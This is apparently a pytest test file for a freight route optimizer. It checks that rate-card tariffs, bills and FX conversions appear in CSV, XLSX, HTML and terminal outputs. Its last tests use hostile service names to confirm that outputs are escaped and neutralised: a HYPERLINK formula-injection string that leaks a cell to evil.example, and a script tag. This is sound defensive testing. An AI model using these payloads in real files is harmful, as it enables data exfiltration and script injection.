"""Every output shows the rate card line applied per departure and leg: ``explain``, the terminal
summary, vehicles.csv, routes.csv, manifests.csv, plan.xlsx and report.html (break, minimum,
surcharges, fees, FX with its date, CNY), escaped and neutralised like every other text.

The plan (hand-checked): A (60 kg, ready 07-01) and B (50 kg, ready 07-02) fly together on
07-02 on AirStd (USD at 7.0: +0 5 / +45 4 / +100 3 per kg, minimum 50, +10%, +0.2/kg, 10 a
shipment): 110 kg in the +100 band = 330 freight + 33 + 22 surcharges + 10 fee = 395 USD =
2,765 CNY, shared 60:50 by chargeable kg. C1 and C2 (20,000 kg each, to SELLER2) fill two
trucks of FTL (1,000 EUR a vehicle +12% +100 at 7.8): 2 x 1,220 EUR = 2,440 EUR = 19,032 CNY.
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import datetime as dt
import html
import io
import json
import math
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import lane, parcel
from rich.console import Console

from optimizer.cli import cli
from optimizer.domain import Pricing, RateLine, Scenario, Tariff
from optimizer.inputs import load_scenario
from optimizer.outputs.files import write_outputs
from optimizer.outputs.html import render
from optimizer.outputs.plan_json import plan_to_dict
from optimizer.outputs.tables import (
    FORMULA_PREFIXES,
    MANIFEST_COLUMNS,
    ROUTE_COLUMNS,
    TARIFF_COLUMNS,
    VEHICLE_COLUMNS,
)
from optimizer.outputs.tariffs import bill_of
from optimizer.outputs.terminal import print_explanation, print_summary
from optimizer.plan import Plan, VehicleUse
from optimizer.planning import explain as explain_mod
from optimizer.planning.explain import explain
from optimizer.planning.pipeline import prepare, run

D0 = dt.date(2025, 1, 1)
AIR = RateLine("L_AIR", "AirStd", "XAir", "USD", D0, None, "kg",
               ((0, 5.0), (45, 4.0), (100, 3.0)), min_charge=50, fee_per_shipment=10,
               surcharge_pct=10, surcharge_per_unit=0.2, divisor_cm3_per_kg=6000, source="test")
TRUCK = RateLine("L_TIR_BORDER", "FTL", "TruckCo", "EUR", D0, None, "vehicle", ((0, 1000.0),),
                 surcharge_pct=12, fee_per_shipment=100, source="test")
FX = {"USD": 7.0, "EUR": 7.8}

#: the columns every consumer of the files read before rate cards (their order is kept)
OLD_VEHICLE_COLUMNS = ("lane_id", "from", "to", "mode", "depart_date", "arrive_date", "count",
                       "load_kg", "capacity_kg", "load_m3", "capacity_m3", "utilisation_pct",
                       "cost_cny", "batches", "batch_ids")
OLD_MANIFEST_COLUMNS = ("lane_id", "from", "to", "mode", "depart_date", "arrive_date",
                        "vehicle", "batch_id", "parcel_id", "weight_kg", "volume_m3")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
SCRIPT = "<script>alert(1)</script>[bold]x[/bold]"

AIR_BILL = ("bill: chargeable 110.0 kg, billed 110.0 kg in the +100 band at 3 USD/kg = freight "
            "330.00 USD; surcharges 55.00 USD; fees 10.00 USD; total 395.00 USD x 7 CNY/USD "
            "(2025-01-01) = 2,765.00 CNY")
TRUCK_BILL = ("bill: 2 vehicles at 1000 EUR/vehicle = freight 2,000.00 EUR; surcharges 240.00 "
              "EUR; fees 200.00 EUR; total 2,440.00 EUR x 7.8 CNY/EUR (2025-01-01) = 19,032.00 "
              "CNY")


def lanes() -> list[dict[str, Any]]:
    """Air from the hub to an airport, a truck to a border, roads on to the sellers."""
    return [
        lane("L_AIR", "HUB", "AIRPORT", "air", per_kg=1.0, days=2, cap_kg=5000, cap_m3=30,
             max_vehicles=1),
        lane("L_TIR_BORDER", "HUB", "BORDER", "tir_road", per_vehicle=9000, days=6),
        lane("L_ROAD_AIR", "AIRPORT", "SELLER", "road", per_kg=0.3, days=1),
        lane("L_ROAD_BORDER", "BORDER", "SELLER", "road", per_kg=0.5, days=2),
        lane("L_ROAD_BORDER_2", "BORDER", "SELLER2", "road", per_kg=0.5, days=2),
    ]


def priced(sc: Scenario, lines: tuple[RateLine, ...]) -> Scenario:
    """The scenario with each line as the rate card of its lane."""
    network = dict(sc.network.lanes)
    for ln in lines:
        network[ln.lane_id] = dataclasses.replace(
            network[ln.lane_id], cost_per_kg_cny=0.0, cost_per_vehicle_cny=0.0,
            pricing=Pricing((ln,), () if ln.currency == "CNY" else ((D0, FX[ln.currency]),)))
    return dataclasses.replace(sc, network=dataclasses.replace(sc.network, lanes=network))


def build(make_case, lines: tuple[RateLine, ...] = (AIR, TRUCK)) -> tuple[Scenario, Plan]:
    """The module docstring's scenario, priced on ``lines``, and its plan (not checked: the
    outputs are under test here)."""
    path = make_case([parcel("A", 60, volume=0.1, ready="2025-07-01", value=1000),
                      parcel("B", 50, volume=0.1, ready="2025-07-02", value=1000),
                      parcel("C1", 20_000, volume=35, value=1000, dest="SELLER2"),
                      parcel("C2", 20_000, volume=35, value=1000, dest="SELLER2")],
                     lanes=lanes(), window_days=0,
                     rules={"waiting": {"storage_cny_per_kg_day": 0.0}})
    sc = priced(load_scenario(path), lines)
    plan = run(sc, same_route_baseline=False, check=False)
    assert plan.status == "OPTIMAL"
    return sc, plan


@pytest.fixture
def case(make_case) -> tuple[Scenario, Plan]:
    return build(make_case)


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _batch(plan: Plan, parcel_id: str) -> str:
    return next(bp.batch_id for bp in plan.batches if parcel_id in bp.parcel_ids)


def _visible(page: str, element_id: str) -> str:
    """The text of the table with this id, tags dropped, entities decoded, spaces collapsed."""
    start = page.index(f'id="{element_id}"')
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", page[start:page.index(
        "</table>", start)])).split())


# ---- the plan itself (what the outputs show) --------------------------------------------------


def test_the_plan_consolidates_on_the_rate_cards(case) -> None:
    _, plan = case
    uses = {v.lane_id: v for v in plan.vehicle_uses}
    air, truck = uses["L_AIR"], uses["L_TIR_BORDER"]
    assert (air.period, air.count, air.cost_cny) == ("2025-07-02", 1, pytest.approx(2765.0))
    assert (truck.count, truck.cost_cny) == (2, pytest.approx(19_032.0))
    bill = bill_of(air)
    assert bill is not None and (bill.units, bill.billed_units, bill.band_from) == (110, 110, 100)
    assert (bill.freight, bill.surcharges, bill.fees, bill.total) == pytest.approx(
        (330, 55, 10, 395))
    truck_bill = bill_of(truck)  # the departure's: two vehicles
    assert truck_bill is not None and truck_bill.total_cny == pytest.approx(truck.cost_cny)
    assert (truck_bill.units, truck_bill.total) == pytest.approx((2, 2440))


# ---- explain ----------------------------------------------------------------------------------


def _explained(sc: Scenario, plan: Plan, batch_id: str) -> str:
    e = explain(plan, prepare(sc).options[batch_id], batch_id)
    assert [v.lane_id for v in e.departures] == [leg.lane_id for leg in e.chosen.legs]
    buf = io.StringIO()
    print_explanation(e, Console(file=buf, width=400))
    return buf.getvalue()


def test_explain_shows_each_legs_tariff_and_bill(case) -> None:
    sc, plan = case
    out = _explained(sc, plan, _batch(plan, "A"))
    assert ("leg L_AIR HUB → AIRPORT, departs 2025-07-02, arrives 2025-07-04: 1,508.18 CNY for "
            "this batch") in out
    assert ("tariff: AirStd (XAir); +0 5 / +45 4 / +100 3 USD/kg; min 50; +10% surcharge; "
            "+0.2/kg; +10/shipment; volumetric /6000; FX 7 CNY/USD (2025-01-01)") in out
    assert ("bill of the shipment (2 batch(es), 110.0 kg, 0.20 m3): chargeable 110.0 kg, "
            "billed 110.0 kg in the +100 band at 3 USD/kg = freight 330.00 USD") in out
    assert ("surcharges 55.00 USD; fees 10.00 USD; total 395.00 USD x 7 CNY/USD (2025-01-01) "
            "= 2,765.00 CNY") in out
    assert "this batch's share: 1,508.18 CNY (54.5% of the bill)" in out and "(60.0 kg)" in out
    assert "leg L_ROAD_AIR AIRPORT → SELLER" in out and "(priced in lanes.csv)" in out
    truck = _explained(sc, plan, _batch(plan, "C1"))
    assert "tariff: FTL (TruckCo); 1000 EUR/vehicle; +12% surcharge; +100/shipment" in truck
    assert "bill of 2 vehicle(s) (1 batch(es), 40,000.0 kg, 70.00 m3): 2 vehicles at " in truck
    assert "total 2,440.00 EUR x 7.8 CNY/EUR (2025-01-01) = 19,032.00 CNY" in truck


def test_explain_command_prints_the_tariff(case, monkeypatch: pytest.MonkeyPatch,
                                           tmp_path: Path) -> None:
    """``returnroute explain`` end to end (the priced scenario stands in for the file, the
    checker, extended elsewhere, is off)."""
    sc, plan = case
    monkeypatch.setattr("optimizer.cli.load_scenario", lambda _: sc)
    monkeypatch.setattr(explain_mod, "run", lambda *a, **kw: run(*a, **{**kw, "check": False}))
    res = CliRunner().invoke(cli, [
        "explain", str(tmp_path / "x.yaml"), "--batch", _batch(plan, "B"), "--resolve", "0"])
    assert res.exit_code == 0, res.output
    text = " ".join(res.output.split())
    assert "tariff: AirStd (XAir)" in text and "1,256.82 CNY (45.5% of the bill)" in text
    assert "= 2,765.00 CNY" in text


# ---- the files --------------------------------------------------------------------------------


def test_vehicles_csv_has_the_tariff_columns(case, tmp_path: Path) -> None:
    sc, plan = case
    write_outputs(plan, tmp_path / "out", sc.parcels)
    rows = _csv(tmp_path / "out" / "vehicles.csv")
    assert tuple(rows[0]) == VEHICLE_COLUMNS == (*OLD_VEHICLE_COLUMNS, *TARIFF_COLUMNS)
    by_lane = {r["lane_id"]: r for r in rows}
    air = by_lane["L_AIR"]
    assert {k: air[k] for k in TARIFF_COLUMNS if k != "tariff"} == {
        "tariff_service": "AirStd", "tariff_carrier": "XAir", "tariff_currency": "USD",
        "tariff_basis": "kg", "tariff_units": "110.0", "tariff_billed_units": "110.0",
        "tariff_band_from": "100", "tariff_rate": "3.0", "tariff_minimum_applied": "False",
        "tariff_freight": "330.0", "tariff_surcharges": "55.0", "tariff_fees": "10.0",
        "tariff_bill": "395.0", "tariff_fx_cny": "7.0", "tariff_fx_date": "2025-01-01",
        "tariff_bill_cny": "2765.0"}
    assert air["tariff"].startswith("AirStd (XAir); +0 5 / +45 4 / +100 3 USD/kg; min 50")
    assert air["tariff"].endswith("billed 110.0 kg x 3: 395.00 USD = 2,765.00 CNY")
    assert (air["count"], air["cost_cny"]) == ("1", "2765.0")
    truck = by_lane["L_TIR_BORDER"]
    assert {k: truck[k] for k in ("count", "cost_cny", "tariff_basis", "tariff_units",
                                  "tariff_bill", "tariff_fx_cny", "tariff_bill_cny")} == {
        "count": "2", "cost_cny": "19032.0", "tariff_basis": "vehicle", "tariff_units": "2.0",
        "tariff_bill": "2440.0", "tariff_fx_cny": "7.8", "tariff_bill_cny": "19032.0"}
    for road in ("L_ROAD_AIR", "L_ROAD_BORDER_2"):  # priced in lanes.csv: empty columns
        assert all(by_lane[road][k] == "" for k in TARIFF_COLUMNS)


def test_routes_and_manifests_name_the_tariff(case, tmp_path: Path) -> None:
    sc, plan = case
    write_outputs(plan, tmp_path / "out", sc.parcels)
    routes = {r["batch_id"]: r for r in _csv(tmp_path / "out" / "routes.csv")}
    assert tuple(next(iter(routes.values()))) == ROUTE_COLUMNS
    a, b, c = (routes[_batch(plan, p)] for p in ("A", "B", "C1"))
    assert {k: a[k] for k in ("tariff_services", "tariff_currencies", "tariff_fx",
                              "tariff_share_cny")} == {
        "tariff_services": "AirStd (XAir)", "tariff_currencies": "USD",
        "tariff_fx": "7 CNY/USD (2025-01-01)", "tariff_share_cny": "1508.18"}
    assert a["tariffs"].startswith("L_AIR@2025-07-02: AirStd (XAir); +0 5 / +45 4")
    # the shares add up to the bill, which routes.csv does not repeat per batch
    assert float(a["tariff_share_cny"]) + float(b["tariff_share_cny"]) == pytest.approx(2765)
    assert (c["tariff_services"], c["tariff_share_cny"]) == ("FTL (TruckCo)", "19032.0")
    manifest = _csv(tmp_path / "out" / "manifests.csv")
    assert tuple(manifest[0]) == MANIFEST_COLUMNS == (*OLD_MANIFEST_COLUMNS, "service",
                                                      "carrier")
    service = {m["parcel_id"]: (m["service"], m["carrier"]) for m in manifest
               if m["lane_id"] in ("L_AIR", "L_TIR_BORDER")}
    assert service == {"A": ("AirStd", "XAir"), "B": ("AirStd", "XAir"),
                       "C1": ("FTL", "TruckCo"), "C2": ("FTL", "TruckCo")}
    assert all(m["service"] == "" for m in manifest if m["lane_id"].startswith("L_ROAD"))


def test_xlsx_has_the_tariff_as_numbers_and_text(case, tmp_path: Path) -> None:
    import openpyxl

    sc, plan = case
    write_outputs(plan, tmp_path / "out", sc.parcels)
    book = openpyxl.load_workbook(tmp_path / "out" / "plan.xlsx", read_only=True)
    head, *rows = list(book["vehicles"].iter_rows(values_only=True))
    assert head == VEHICLE_COLUMNS
    air = dict(zip(head, next(r for r in rows if r[0] == "L_AIR"), strict=True))
    assert (air["tariff_service"], air["tariff_bill"], air["tariff_bill_cny"]) == (
        "AirStd", 395, 2765)
    assert air["tariff_minimum_applied"] is False and air["tariff_fx_date"] == "2025-01-01"
    road = dict(zip(head, next(r for r in rows if r[0] == "L_ROAD_AIR"), strict=True))
    assert all(road[k] is None for k in TARIFF_COLUMNS)
    head, *rows = list(book["routes"].iter_rows(values_only=True))
    assert head == ROUTE_COLUMNS
    shares = [dict(zip(head, r, strict=True))["tariff_share_cny"] for r in rows]
    assert sorted(shares) == pytest.approx(sorted([1508.18, 1256.82, 19_032.0]))


def test_report_shows_the_line_per_leg_and_departure(case) -> None:
    _, plan = case
    page = render(json.loads(json.dumps(plan_to_dict(plan))))
    vehicles = _visible(page, "vehicles")
    assert "<th>tariff</th>" in page
    assert ("L_AIR HUB → AIRPORT 2025-07-02 2025-07-04 1 shipment 110 5,000 2,765 AirStd "
            "(XAir); +0 5 / +45 4 / +100 3 USD/kg; min 50; +10% surcharge") in vehicles
    assert AIR_BILL in vehicles and "shipment: 110 kg, 2 batch(es)" in vehicles
    assert TRUCK_BILL in vehicles and "#2: 20,000 kg" in vehicles
    batches = _visible(page, "batches")
    assert ("L_AIR 2025-07-02 → 2025-07-04 AirStd (XAir); +0 5 / +45 4 / +100 3 USD/kg") in (
        batches)
    assert "billed 110.0 kg x 3: 395.00 USD = 2,765.00 CNY; this batch's share 1,508.18 CNY" in (
        batches)
    assert "departs 2025-07-02, arrives 2025-07-04 on AirStd" in html.unescape(page)  # the map


def test_terminal_summary_lists_the_departures_on_rate_cards(case) -> None:
    _, plan = case
    buf = io.StringIO()
    print_summary(plan, Console(file=buf, width=300))
    rows = [" ".join(ln.strip("│ ").split()) for ln in buf.getvalue().splitlines()]
    assert "departures billed on rate cards" in buf.getvalue()
    assert ("L_AIR │ 2025-07-02 │ AirStd (XAir) │ 110.0 kg │ 110.0 kg │ +100 band, 3 USD/kg │ "
            "395.00 USD │ 7 CNY/USD (2025-01-01) │ 2,765 │ 2") in rows
    assert ("L_TIR_BORDER │ 2025-07-01 │ FTL (TruckCo) │ 2 vehicles │ 2 vehicles │ 1000 "
            "EUR/vehicle │ 2,440.00 EUR │ 7.8 CNY/EUR (2025-01-01) │ 19,032 │ 1") in rows
    many = dataclasses.replace(plan, vehicle_uses=plan.vehicle_uses * 15)  # 30 on rate cards
    buf = io.StringIO()
    print_summary(many, Console(file=buf, width=300))
    assert "... the 20 costliest of 30 departures on rate cards; all are in vehicles.csv" in (
        buf.getvalue())
    assert buf.getvalue().count("│ FTL (TruckCo) │") == 15  # the costlier ones first


# ---- plans without rate cards: nothing but empty columns -------------------------------------


def test_no_rate_cards_no_tariff_anywhere(make_case, tmp_path: Path) -> None:
    sc, plan = build(make_case, lines=())
    assert all(v.priced is None for v in plan.vehicle_uses)
    write_outputs(plan, tmp_path / "out", sc.parcels)
    for name, columns in (("vehicles.csv", TARIFF_COLUMNS), ("manifests.csv",
                                                            ("service", "carrier")),
                          ("routes.csv", [c for c in ROUTE_COLUMNS if c.startswith("tariff")])):
        rows = _csv(tmp_path / "out" / name)
        assert rows and all(r[c] == "" for r in rows for c in columns), name
    page = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert 'class="tariff"></td>' in page and "bill: " not in _visible(page, "vehicles")
    assert "this batch&#39;s share" not in page
    buf = io.StringIO()
    print_summary(plan, Console(file=buf, width=300))
    assert "rate cards" not in buf.getvalue()
    e = explain(plan, prepare(sc).options[_batch(plan, "A")], _batch(plan, "A"))
    out = io.StringIO()
    print_explanation(e, Console(file=out, width=300))
    assert "tariff:" not in out.getvalue() and "(priced in lanes.csv)" in out.getvalue()


# ---- the wording of other bills ---------------------------------------------------------------


def _use(line: RateLine, kg: float, m3: float, fx: float = 7.0) -> VehicleUse:
    t = Tariff(line, fx, D0)
    return VehicleUse(line.lane_id, "2025-07-02", "air", 1, kg, m3, 0.0, 0.0, t.cost_cny(kg, m3),
                      ("B1",), priced=t, bill=t.charge(kg, m3))


@pytest.mark.parametrize(("kg", "m3", "applied", "words"), [
    (1, 0, "minimum 50 USD", "chargeable 1.0 kg: the minimum applies, freight 50.00 USD (the rate "
     "5 USD/kg gives less)"),
    (40, 0, "billed at the +45 break, 4 USD/kg", "chargeable 40.0 kg, billed 45.0 kg at the +45 "
     "break (cheaper than the band below) at 4 USD/kg = freight 180.00 USD"),
    (20, 0.9, "+100 band, 3 USD/kg", "chargeable 150.0 kg, billed 150.0 kg in the +100 band at 3 "
     "USD/kg = freight 450.00 USD"),  # volumetric: 0.9 m3 / 6000 cm3 a kg
])
def test_bill_words(kg: float, m3: float, applied: str, words: str) -> None:
    bill = bill_of(_use(AIR, kg, m3))
    assert bill is not None
    assert (bill.applied(), bill.freight_words()) == (applied, words)
    assert bill.sentence().endswith(f"= {bill.total_cny:,.2f} CNY") and "x 7 CNY/USD" in (
        bill.sentence())


def test_bill_words_of_other_bases_and_yuan() -> None:
    wm = RateLine("L_AIR", "LCL", "", "CNY", D0, None, "wm", ((0, 400.0), (3, 300.0)),
                  fee_per_shipment=25)
    bill = bill_of(_use(wm, 2000, 3.456, fx=1.0))
    assert bill is not None and bill.name == "LCL" and bill.fx() == "CNY"
    assert bill.freight_words() == ("chargeable 3.46 W/M t, billed 3.46 W/M t in the +3 band at "
                                    "300 CNY/W/M t = freight 1,036.80 CNY")
    assert bill.sentence().endswith("fees 25.00 CNY; total 1,061.80 CNY")  # no FX for yuan
    ship = RateLine("L_AIR", "Courier", "C", "USD", D0, None, "shipment", ((0, 80.0),))
    bill = bill_of(_use(ship, 5, 0))
    assert bill is not None and bill.applied() == "80 USD/shipment"
    assert bill.freight_words() == "1 shipment at 80 USD/shipment = freight 80.00 USD"
    empty = _use(ship, 0, 0)
    assert bill_of(empty) is None  # nothing billed: the line alone is shown


# ---- hostile names ----------------------------------------------------------------------------


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_hostile_service_names_are_escaped_and_neutralised(make_case, tmp_path: Path) -> None:
    import openpyxl

    lines = (dataclasses.replace(AIR, service=HYPERLINK, carrier=SCRIPT),
             dataclasses.replace(TRUCK, service="@SUM(1)", carrier="-1+2"))
    sc, plan = build(make_case, lines)
    out = tmp_path / "out"
    write_outputs(plan, out, sc.parcels)
    for name in ("vehicles.csv", "routes.csv", "manifests.csv"):
        with (out / name).open(newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert all(_is_number(c) for c in cells if c.startswith(FORMULA_PREFIXES)), name
        assert "'" + HYPERLINK in cells or any(c.startswith("'" + HYPERLINK) for c in cells)
    vehicles = {r["lane_id"]: r for r in _csv(out / "vehicles.csv")}
    assert vehicles["L_AIR"]["tariff_service"] == "'" + HYPERLINK
    assert vehicles["L_AIR"]["tariff"].startswith("'" + HYPERLINK + f" ({SCRIPT})")
    assert vehicles["L_TIR_BORDER"]["tariff_carrier"] == "'-1+2"
    routes = _csv(out / "routes.csv")
    assert {r["tariff_services"] for r in routes} == {"'" + HYPERLINK + f" ({SCRIPT})",
                                                      "'@SUM(1) (-1+2)"}
    book = openpyxl.load_workbook(out / "plan.xlsx")
    texts = []
    for ws in book.worksheets:
        assert not ws._hyperlinks, ws.title
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    assert not c.value.startswith(FORMULA_PREFIXES), (ws.title, c.value)
    assert "'" + HYPERLINK in texts and "'@SUM(1)" in texts
    page = (out / "report.html").read_text(encoding="utf-8")
    assert page.count("<script") == 1 and "<script>alert" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert HYPERLINK.replace('"', "&#34;").replace("&A1", "&amp;A1") in page
    buf = io.StringIO()  # the terminal prints the names as text, never as markup
    print_summary(plan, Console(file=buf, width=400))
    assert "[bold]x[/bold]" in buf.getvalue() and HYPERLINK in buf.getvalue()


#: wrong values a saved plan.json may hold where the tariff is
WRONG = ("<script>alert(1)</script>", None, True, -1e308, 10**400, math.nan, ["<b>x</b>"],
         {"x": "<i>y</i>"}, "")


def test_report_survives_any_tariff_field_of_any_type(case) -> None:
    """report.html reads plan.json defensively: each field of a tariff (and the tariff itself,
    a leg's line) of the wrong type renders, escaped, never crashing."""
    _, plan = case
    doc = json.loads(json.dumps(plan_to_dict(plan)))
    v = next(i for i, x in enumerate(doc["vehicles"]) if x["lane_id"] == "L_AIR")
    normal = render(doc)
    tags = set(re.findall(r"<([a-z]+)", normal))
    for key in [*doc["vehicles"][v]["tariff"], None]:
        for wrong in WRONG:
            bad = copy.deepcopy(doc)
            if key is None:
                bad["vehicles"][v]["tariff"] = wrong
                for b in bad["batches"]:
                    for leg in b["legs"]:
                        leg["tariff"] = wrong
            else:
                bad["vehicles"][v]["tariff"][key] = wrong
            page = render(bad)
            assert set(re.findall(r"<([a-z]+)", page)) <= tags, (key, wrong)
            assert "<script>alert" not in page and "<b>x" not in page and "<i>y" not in page
